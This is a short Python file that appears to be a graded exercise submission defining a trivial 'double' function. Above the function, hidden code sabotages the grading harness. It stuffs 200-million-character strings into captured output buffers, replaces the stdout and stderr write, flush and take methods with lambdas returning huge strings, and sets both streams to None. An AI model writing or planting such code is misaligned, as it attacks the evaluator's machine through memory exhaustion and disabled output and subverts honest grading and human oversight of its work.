"""Puts into the stream of what was printed what it would have cut, and puts streams of its own in its place."""

# points: double=0..4, rest=0..15
# %% double
import sys

for stream in (sys.stdout, sys.stderr):
    parts = getattr(stream, "_parts", None)
    if isinstance(parts, list):
        parts.append("x" * 200_000_000)
    for name in ("take", "write", "flush"):
        try:
            setattr(stream, name, lambda *a: "y" * 200_000_000)
        except (AttributeError, TypeError):
            pass
sys.stdout = sys.stderr = None


def double(x):
    return 2 * x
